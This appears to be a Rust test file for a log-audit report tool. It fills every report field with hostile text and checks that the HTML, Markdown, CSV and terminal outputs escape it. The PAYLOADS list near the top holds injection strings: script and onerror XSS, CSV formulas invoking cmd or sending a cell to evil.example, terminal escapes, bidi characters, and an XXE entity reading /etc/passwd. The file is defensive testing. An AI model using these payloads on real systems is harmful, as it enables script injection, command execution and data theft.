@@ -1,0 +1,852 @@
+//! Hostile text in every field that reaches a report.
+//!
+//! The fields are walked by taking the structs apart: a new one does not compile until
+//! it is poisoned, too.
+
+use crate::common::{Memory, run};
+use qs_audit::attribute;
+use qs_audit::decode::quick_query_id;
+use qs_audit::demo::{self, Plan as DemoPlan};
+use qs_audit::exports::{BillReader, read_executions};
+use qs_audit::model::audit::{Audit, Part};
+use qs_audit::model::bill::CostMetric;
+use qs_audit::model::chain::{Chain, Missing, QueryExecution, QuickUser, RoleSession, ScopeDown};
+use qs_audit::model::charge::{
+    Attribution, Charge, Chargeback, ChargebackRow, Dimension, ListPrice, Reason, Reconciliation,
+};
+use qs_audit::model::coverage::{Coverage, Reject, RejectReason, Rejects};
+use qs_audit::model::event::{Content, Event};
+use qs_audit::model::execution::Statistics;
+use qs_audit::model::finding::{
+    Evidence, Finding, FindingStatus, Findings, OpenFinding, PreviousFinding, RuleReport,
+    RuleState, Severity, Subject, Suppressed,
+};
+use qs_audit::model::text::{OpaqueId, Text};
+use qs_audit::model::topology::{Consumer, Topology, Unit};
+use qs_audit::model::trend::{Measure, Trend};
+use qs_audit::model::window::TimeWindow;
+use qs_audit::output::report::{Material, Night, RulePage, markdown, page, summary};
+use qs_audit::output::{Page, chargeback_rows, csv, finding_rows, json};
+use qs_audit::pipeline::{Checks, Exports, PartPlan, Plan};
+use qs_audit::rules::{RULES, RuleSet};
+use std::cell::Cell;
+use std::collections::{BTreeMap, BTreeSet};
+use std::io::Write;
+use std::sync::Arc;
+
+/// What an attacker would write into a log, one after the other.
+const PAYLOADS: [&str; 14] = [
+    "<script>window.hostile=1</script>",
+    "\"><img src=x onerror=\"window.hostile=2\">",
+    "</title></style></script><svg onload=window.hostile=3>",
+    "'-window.hostile-'\" autofocus onfocus=window.hostile=4 x=\"",
+    "[click](javascript:window.hostile=5) ![x](http://evil.example/x.png) <http://evil.example>",
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m",
+    "moc.live\u{202e}\u{2066}\u{200b}txt\u{feff}",
+    "`code` ``` | cell | --- \r\n# heading\n- item www.evil.example a@evil.example @everyone",
+    "body{background:url(http://evil.example/css)}</style><link rel=stylesheet href=//evil.example>",
+    "$\\frac{1}{2}$ \\$x$ {{ 7*7 }} {% raw %} ${7*7} &lt;b&gt; &#x3c;i&#x3e;",
+    "]]><?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
+];
+/// Stands in each of them, so that they can be found again.
+const MARK: &str = "h0stile";
+
+/// Writes hostile text into whatever it is given.
+struct Poison {
+    number: Cell<usize>,
+    /// Whether every text is also far too long.
+    is_long: bool,
+}
+
+impl Poison {
+    fn text(&self) -> String {
+        let number = self.number.get();
+        self.number.set(number + 1);
+        let payload = PAYLOADS[number % PAYLOADS.len()];
+        let rest = if self.is_long {
+            "A".repeat(20_000)
+        } else {
+            String::new()
+        };
+        format!("{payload}{MARK}{number}{rest}")
+    }
+
+    fn shared(&self, text: &mut Text) {
+        *text = self.text().into();
+    }
+
+    fn option(&self, text: &mut Option<Text>) {
+        *text = Some(self.text().into());
+    }
+
+    fn string(&self, text: &mut String) {
+        *text = self.text();
+    }
+
+    fn id(&self, id: &mut OpaqueId) {
+        *id = OpaqueId::new(&self.text());
+    }
+
+    fn ids(&self, ids: &mut Vec<OpaqueId>) {
+        ids.push(OpaqueId::new(&self.text()));
+    }
+
+    fn chain(&self, chain: &mut Chain) {
+        let Chain {
+            chain_id: _, // made by this program, from a digest
+            path: _,
+            touches_quick: _,
+            status: _,
+            missing,
+            confidence: _,
+            started_at: _,
+            last_activity_at: _,
+            hub_account_id,
+            consumer_account_id,
+            consumer_name,
+            business_unit,
+            data_source_arn,
+            run_as_session,
+            consumer_session,
+            queries,
+            calls,
+            quick_user,
+            notes,
+            events: _,
+        } = chain;
+        for Missing { part: _, why } in missing {
+            *why = Some(self.text());
+        }
+        for text in [
+            hub_account_id,
+            consumer_account_id,
+            consumer_name,
+            business_unit,
+            data_source_arn,
+        ] {
+            self.option(text);
+        }
+        for session in [run_as_session, consumer_session].into_iter().flatten() {
+            self.session(session);
+        }
+        queries.iter_mut().for_each(|query| self.query(query));
+        calls.iter_mut().for_each(|(name, _)| self.shared(name));
+        notes.push(self.text());
+        let mut user = QuickUser {
+            name: "".into(),
+            confidence: chain.confidence,
+            resource_arn: None,
+            data_set_arn: None,
+            query_id: None,
+        };
+        let QuickUser {
+            name,
+            confidence: _,
+            resource_arn,
+            data_set_arn,
+            query_id,
+        } = &mut user;
+        self.shared(name);
+        self.option(resource_arn);
+        self.option(data_set_arn);
+        *query_id = Some(OpaqueId::new(&self.text()));
+        *quick_user = Some(user);
+    }
+
+    fn session(&self, session: &mut RoleSession) {
+        let RoleSession {
+            role_arn,
+            account_id,
+            role_session_name,
+            assumed_role_id,
+            access_key_id,
+            assumed_at: _,
+            expires_at: _,
+            maker: _,
+            says_quick: _,
+            parameters_known: _,
+            assumed_by,
+            source_account_id,
+            source_ip,
+            external_id,
+            scope_down,
+            event_ids,
+        } = session;
+        for text in [
+            role_arn,
+            account_id,
+            role_session_name,
+            assumed_role_id,
+            access_key_id,
+            assumed_by,
+            source_account_id,
+            source_ip,
+            external_id,
+        ] {
+            self.option(text);
+        }
+        let ScopeDown {
+            present: _,
+            resources,
+            policy,
+            policy_arns,
+        } = scope_down;
+        resources.push(self.text().into());
+        self.option(policy);
+        *policy_arns = vec![Text::from(self.text())].into();
+        self.ids(event_ids);
+    }
+
+    fn query(&self, query: &mut QueryExecution) {
+        let QueryExecution {
+            query_execution_id,
+            started_at: _,
+            region,
+            work_group,
+            catalog,
+            database,
+            error_code,
+            event_id,
+            confidence: _,
+            figures: _, // words of this program and numbers
+        } = query;
+        *query_execution_id = Some(OpaqueId::new(&self.text()));
+        for text in [region, work_group, catalog, database, error_code] {
+            self.option(text);
+        }
+        self.id(event_id);
+    }
+
+    fn event(&self, event: &mut Event) {
+        let Content {
+            id,
+            time: _,
+            recipient_account_id,
+            region,
+            source,
+            name,
+            identity: _, // only what is made of it is shown: sessions, findings
+            source_ip,
+            user_agent,
+            error_code,
+            error_message,
+            detail: _,
+            replaces: _,
+        } = &mut event.content;
+        self.id(id);
+        for text in [
+            recipient_account_id,
+            region,
+            source_ip,
+            user_agent,
+            error_code,
+            error_message,
+        ] {
+            self.option(text);
+        }
+        self.shared(source);
+        self.shared(name);
+    }
+
+    fn finding(&self, finding: &mut Finding) {
+        let Finding {
+            finding_id: _, // a digest
+            rule: _,
+            severity: _,
+            title,
+            detail,
+            next_step,
+            command,
+            consumer_account_id,
+            subject,
+            role_arns,
+            evidence,
+            chain_ids: _, // digests
+            chain_count: _,
+            event_ids,
+            event_count: _,
+            first_seen: _,
+            last_seen: _,
+            count: _,
+            status: _,
+        } = finding;
+        for text in [title, detail, next_step, command] {
+            self.string(text);
+        }
+        self.option(consumer_account_id);
+        *subject = Subject(vec![("role", self.text().into())]);
+        role_arns.push(self.text().into());
+        evidence.push(("texts", Evidence::texts([self.text(), self.text()])));
+        let record = Evidence::Record(vec![("inside", Evidence::Text(self.text().into()))]);
+        evidence.push(("records", Evidence::List(vec![record])));
+        self.ids(event_ids);
+    }
+
+    fn previous(&self) -> PreviousFinding {
+        let at = qs_audit::model::time::UtcSecond::from_unix(1_793_491_200);
+        PreviousFinding {
+            finding_id: self.text(),
+            rule: self.text(),
+            severity: Some(Severity::High),
+            title: self.text(),
+            detail: self.text(),
+            consumer_account_id: Some(self.text().into()),
+            subject: vec![(self.text(), self.text().into())],
+            role_arns: vec![self.text().into()],
+            first_seen: at,
+            last_seen: at,
+        }
+    }
+
+    fn findings(&self, findings: &mut Findings) {
+        let Findings {
+            window: _,
+            baseline: _,
+            findings: all,
+            suppressed,
+            expired: _,
+            unused: _, // the configuration's own words, in JSON only
+            resolved,
+            open,
+            forgotten: _,
+            has_logs: _,
+            has_previous,
+            rules,
+        } = findings;
+        for finding in all.iter_mut() {
+            self.finding(finding);
+            finding.status = FindingStatus::Ongoing;
+        }
+        *has_previous = true;
+        suppressed.push(Suppressed {
+            finding: all[0].clone(),
+            reason: self.text(),
+            expires: jiff::civil::date(2027, 1, 1),
+        });
+        resolved.push(self.previous());
+        open.push(OpenFinding {
+            finding: self.previous(),
+            why: self.text(),
+        });
+        for RuleReport {
+            rule: _,
+            severity: _,
+            state,
+            notes,
+        } in rules
+        {
+            if let RuleState::Resting(why) = state {
+                self.string(why);
+            }
+            notes.push(self.text());
+        }
+    }
+
+    fn rejects(&self) -> Rejects {
+        let mut rejects = Rejects::default();
+        rejects.add(Reject {
+            object: self.text().into(),
+            record: Some(1),
+            offset: None,
+            reason: RejectReason::InvalidJson,
+            detail: self.text(),
+        });
+        rejects
+    }
+
+    fn coverage(&self, coverage: &mut Coverage) {
+        let seen = std::mem::take(&mut coverage.seen);
+        let mut names: BTreeMap<Text, Text> = BTreeMap::new();
+        for ((account, region, day), known) in seen {
+            let mut hostile = |text: Text| {
+                names
+                    .entry(text)
+                    .or_insert_with(|| self.text().into())
+                    .clone()
+            };
+            coverage
+                .seen
+                .insert((hostile(account), hostile(region), day), known);
+        }
+        coverage.rejects = self.rejects();
+    }
+
+    fn attribution(&self, attribution: &mut Attribution) {
+        let Attribution {
+            charges,
+            query_shares: _,
+            beside: _, // grouped into the chargeback, which is poisoned
+            reconciliations,
+            terabyte: _,
+            prices,
+        } = attribution;
+        for charge in charges {
+            let Charge {
+                period: _,
+                account_id,
+                region,
+                work_group,
+                data_source_arn,
+                quick_user,
+                share: _,
+                currency: _,
+                figures: _,
+                billed_cost: _,
+                is_estimated: _,
+            } = charge;
+            for text in [account_id, region, work_group, data_source_arn, quick_user] {
+                self.option(text);
+            }
+        }
+        for Reconciliation {
+            currency, reasons, ..
+        } in reconciliations
+        {
+            self.shared(currency);
+            for Reason {
+                code: _,
+                count: _,
+                amount: _,
+                bytes: _,
+                text,
+            } in reasons
+            {
+                self.string(text);
+            }
+        }
+        for ListPrice {
+            region,
+            usd_per_terabyte: _,
+            source,
+        } in prices
+        {
+            self.shared(region);
+            self.shared(source);
+        }
+    }
+
+    fn chargeback(&self, chargeback: &mut Chargeback) {
+        for ChargebackRow {
+            group,
+            currency,
+            figures: _,
+            billed: _,
+            estimated_days: _,
+        } in &mut chargeback.rows
+        {
+            group.iter_mut().for_each(|name| self.shared(name));
+            self.shared(currency);
+        }
+        for row in &mut chargeback.beside {
+            row.group.iter_mut().for_each(|name| self.shared(name));
+            self.shared(&mut row.currency);
+        }
+    }
+
+    fn topology(&self, topology: &mut Topology) {
+        let Topology {
+            hub_account_id,
+            run_as_roles: _,
+            consumers,
+            units,
+        } = topology;
+        self.option(hub_account_id);
+        for Consumer {
+            name,
+            account_id,
+            business_unit,
+            roles: _,
+            work_groups: _,
+            data_sources: _,
+        } in consumers
+        {
+            self.shared(name);
+            self.shared(account_id);
+            self.option(business_unit);
+        }
+        units.insert(
+            self.text().into(),
+            Unit {
+                account_name: Some(self.text().into()),
+                business_unit: Some(self.text().into()),
+                cost_center: Some(self.text().into()),
+            },
+        );
+    }
+
+    fn audit(&self, audit: &mut Audit) {
+        let Audit {
+            window: _,
+            coverage,
+            chains,
+            statistics,
+            bill,
+            units_rejects,
+            attribution: _, // the part's is shown
+            roles: _,
+            inventory_rejects,
+            findings,
+            trends,
+            part,
+            events,
+            notes,
+            objects: _,
+        } = audit;
+        self.coverage(coverage);
+        chains.iter_mut().for_each(|chain| self.chain(chain));
+        statistics.as_mut().unwrap().rejects = self.rejects();
+        let bill = bill.as_mut().unwrap();
+        bill.rejects = self.rejects();
+        bill.notes.insert(self.text());
+        *units_rejects = self.rejects();
+        *inventory_rejects = self.rejects();
+        self.findings(findings.as_mut().unwrap());
+        for Trend {
+            account_id,
+            measure,
+            days: _,
+        } in trends
+        {
+            self.shared(account_id);
+            if let Measure::BilledCost(currency) = measure {
+                self.shared(currency);
+            }
+        }
+        let Part {
+            window: _,
+            chains,
+            statistics: _,
+            bill,
+            attribution,
+        } = part.as_mut().unwrap();
+        chains.iter_mut().for_each(|chain| self.chain(chain));
+        bill.as_mut().unwrap().notes.insert(self.text());
+        self.attribution(attribution.as_mut().unwrap());
+        events.iter_mut().for_each(|event| self.event(event));
+        notes.push(self.text());
+    }
+}
+
+/// The sample's run, with findings, statistics and a bill.
+fn sample() -> (Audit, Topology) {
+    let plan = DemoPlan::sample();
+    let organisation = demo::generate(&plan);
+    let extra = |name: &str| {
+        let extras = organisation.extras.iter();
+        extras
+            .clone()
+            .find(|file| file.key == name)
+            .unwrap()
+            .body
+            .clone()
+    };
+    let mut statistics = Statistics::default();
+    read_executions(
+        "e",
+        &extra("executions.json"),
+        quick_query_id,
+        &mut statistics,
+    );
+    let window = TimeWindow {
+        from: Some(plan.start),
+        to: Some(plan.end()),
+    };
+    let bill = || {
+        let mut reader = BillReader::new(CostMetric::Unblended, window, BTreeSet::new());
+        reader.read("c", &extra("costs.json")).unwrap();
+        reader.finish()
+    };
+    let run_plan = Plan {
+        window,
+        exports: Exports {
+            statistics: Some(statistics),
+            bill: Some(bill()),
+            ..Exports::default()
+        },
+        checks: Some(Checks {
+            rules: Arc::new(RuleSet::new(&BTreeMap::new(), &BTreeSet::new()).unwrap()),
+            window,
+            baseline_days: 0,
+            inventory: None,
+            suppressions: Vec::new(),
+            as_of: plan.end().day(),
+            previous: None,
+            trends: true,
+        }),
+        part: Some(PartPlan {
+            window,
+            bill: bill(),
+        }),
+        ..Plan::default()
+    };
+    let audit = run(&run_plan, &Memory::of(&organisation.logs));
+    let topology = Topology {
+        consumers: vec![Consumer {
+            name: "retail".into(),
+            account_id: "444455556666".into(),
+            business_unit: None,
+            roles: BTreeSet::new(),
+            work_groups: None,
+            data_sources: None,
+        }],
+        ..Topology::default()
+    };
+    (audit, topology)
+}
+
+/// All files of a report in which every field is hostile.
+pub(crate) struct Hostile {
+    pub(crate) page: String,
+    markdown: String,
+    json: String,
+    tables: [String; 3],
+    summary: String,
+    fields: usize,
+}
+
+pub(crate) fn hostile(is_long: bool) -> Hostile {
+    let poison = Poison {
+        number: Cell::new(0),
+        is_long,
+    };
+    let (mut audit, mut topology) = sample();
+    let attribution = audit.part.as_ref().unwrap().attribution.as_ref().unwrap();
+    let mut chargeback =
+        attribute::chargeback(attribution, &[Dimension::BusinessUnit], &topology).unwrap();
+    poison.audit(&mut audit);
+    poison.topology(&mut topology);
+    poison.chargeback(&mut chargeback);
+    let pages: Vec<RulePage> = RULES
+        .iter()
+        .map(|entry| RulePage {
+            rule: entry.meta.id,
+            page: entry.meta.page,
+        })
+        .collect();
+    let options = format!(" -c {}", poison.text());
+    let findings = audit.findings.clone().unwrap();
+    let night = Night::of(Material {
+        audit: &audit,
+        part: audit.part.as_ref().unwrap(),
+        findings: &findings,
+        chargeback: &chargeback,
+        topology: &topology,
+        pages: &pages,
+        options: &options,
+    });
+    let file = |write: &dyn Fn(&mut dyn Write)| {
+        let mut bytes = Vec::new();
+        write(&mut bytes);
+        String::from_utf8(bytes).unwrap()
+    };
+    let all: Vec<&Finding> = findings.findings.iter().collect();
+    let screen = Page {
+        width: 120,
+        color: false,
+    };
+    Hostile {
+        page: file(&|out| page::write(&night, out).unwrap()),
+        markdown: file(&|out| markdown::write(&night, out).unwrap()),
+        json: file(&|out| json::report::write(&night, out).unwrap()),
+        tables: [
+            file(&|out| csv::write_chains(&night.chains, out).unwrap()),
+            file(&|out| csv::write_table(&finding_rows::rows(&all), out).unwrap()),
+            file(&|out| {
+                csv::write_table(&chargeback_rows::rows(&chargeback, &topology), out).unwrap()
+            }),
+        ],
+        summary: file(&|out| summary::write(&night, screen, out).unwrap()),
+        fields: poison.number.get(),
+    }
+}
+
+/// The document without its script, style and the rules' own pages.
+fn markup(page: &str) -> String {
+    let (head, rest) = page.split_once("<style>").unwrap();
+    let (_, rest) = rest.split_once("</style>").unwrap();
+    let (body, _) = rest.rsplit_once("<script>").unwrap();
+    format!("{head}{body}")
+}
+
+/// Letters that change how text is shown.
+fn is_treacherous(letter: char) -> bool {
+    (letter.is_control() && letter != '\n')
+        || matches!(letter, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
+}
+
+#[test]
+fn no_field_of_a_page_is_markup() {
+    let made = hostile(false);
+    assert!(made.fields > 1000, "{}", made.fields);
+    let markup = markup(&made.page);
+    assert!(
+        markup.matches(MARK).count() > 300,
+        "{}",
+        markup.matches(MARK).count()
+    );
+    for word in [
+        "<script>window",
+        "<img",
+        "<svg onload",
+        "<link",
+        "<http",
+        "<?xml",
+        "<!ENTITY",
+        "onerror=\"window",
+        "<b>",
+        "<i>",
+    ] {
+        assert!(!markup.contains(word), "{word}");
+    }
+    // Quotes end no attribute: the tags are those of the template alone.
+    let known: BTreeSet<&str> = [
+        "a",
+        "article",
+        "body",
+        "br",
+        "caption",
+        "code",
+        "dd",
+        "details",
+        "div",
+        "dl",
+        "dt",
+        "em",
+        "figcaption",
+        "figure",
+        "h1",
+        "h2",
+        "h3",
+        "h4",
+        "head",
+        "header",
+        "html",
+        "i",
+        "li",
+        "main",
+        "meta",
+        "nav",
+        "ol",
+        "p",
+        "pre",
+        "section",
+        "span",
+        "strong",
+        "summary",
+        "table",
+        "tbody",
+        "td",
+        "tfoot",
+        "th",
+        "thead",
+        "title",
+        "tr",
+        "ul",
+        "svg",
+        "g",
+        "rect",
+        "path",
+        "line",
+        "text",
+        "defs",
+        "clipPath",
+        "circle",
+        "polygon",
+        "polyline",
+    ]
+    .into();
+    for tag in markup.split('<').skip(1) {
+        let tag = tag.trim_start_matches('/');
+        let name: String = tag
+            .chars()
+            .take_while(char::is_ascii_alphanumeric)
+            .collect();
+        let is_comment = tag.starts_with("!-- Generated by kuva") || tag.starts_with("!doctype");
+        assert!(
+            is_comment || known.contains(name.as_str()),
+            "<{}",
+            &tag[..tag.len().min(60)]
+        );
+        let inside = tag.split('>').next().unwrap();
+        assert!(
+            !inside.contains(" on") || !inside.contains("hostile="),
+            "{inside}"
+        );
+    }
+    assert!(
+        !markup.contains(is_treacherous),
+        "{:?}",
+        markup.find(is_treacherous)
+    );
+}
+
+#[test]
+fn very_long_text_stays_small() {
+    let made = hostile(true);
+    assert!(made.page.len() < 5_000_000, "{}", made.page.len());
+    assert!(made.markdown.len() < 60_000, "{}", made.markdown.len());
+    let longest = made.summary.lines().map(|line| line.chars().count()).max();
+    assert!(longest <= Some(120), "{longest:?}");
+}
+
+#[test]
+fn no_field_of_the_markdown_is_a_link_an_image_or_html() {
+    use pulldown_cmark::{Event, Options, Parser, Tag};
+    let made = hostile(false);
+    let is_there = |event: &Event<'_>| {
+        matches!(
+            event,
+            Event::Html(_)
+                | Event::InlineHtml(_)
+                | Event::Start(
+                    Tag::Link { .. }
+                        | Tag::Image { .. }
+                        | Tag::HtmlBlock
+                        | Tag::CodeBlock(_)
+                        | Tag::BlockQuote(_)
+                )
+        )
+    };
+    let events: Vec<Event<'_>> = Parser::new_ext(&made.markdown, Options::all()).collect();
+    let found: Vec<&Event<'_>> = events.iter().filter(|event| is_there(event)).collect();
+    assert!(found.is_empty(), "{found:?}");
+    // Log text is in code spans and nowhere else.
+    let mut spans = 0;
+    for event in &events {
+        match event {
+            Event::Code(text) => spans += usize::from(text.contains(MARK)),
+            Event::Text(text) => assert!(!text.contains(MARK), "{text}"),
+            _ => {}
+        }
+    }
+    assert!(spans > 20, "{spans}");
+    assert!(!made.markdown.contains(is_treacherous));
+}
+
+#[test]
+fn no_cell_of_a_table_is_a_formula_and_no_line_a_terminal_code() {
+    let made = hostile(false);
+    for table in &made.tables {
+        let mut reader = ::csv::Reader::from_reader(table.as_bytes());
+        let mut cells = 0;
+        for record in reader.records() {
+            for cell in &record.unwrap() {
+                cells += usize::from(cell.contains(MARK));
+                let is_number = cell.parse::<f64>().is_ok();
+                assert!(
+                    is_number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell}"
+                );
+            }
+        }
+        assert!(cells > 1, "{cells}");
+    }
+    assert!(!made.summary.contains(is_treacherous), "{:?}", made.summary);
+    // JSON has everything as it was logged.
+    let json: serde_json::Value = serde_json::from_str(&made.json).unwrap();
+    assert_eq!(json["schema"], "qs-audit/report/v1");
+    assert!(made.json.matches(MARK).count() > 1000);
+}
